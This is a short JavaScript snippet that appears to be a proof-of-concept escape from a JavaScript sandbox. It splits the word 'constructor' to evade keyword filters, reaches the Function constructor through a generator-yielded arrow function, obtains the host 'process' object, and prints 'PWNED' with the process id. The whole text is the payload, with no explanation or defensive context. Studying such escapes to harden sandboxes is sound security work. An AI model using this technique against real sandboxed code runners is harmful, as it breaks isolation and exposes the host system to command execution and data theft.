const w = ['con', 'structor'].join('');
class G { *[Symbol.iterator]() { yield (x) => x; } }
const it = new G()[Symbol.iterator]();
console.log('PWNED', it.next().value[w]('return process')().pid);
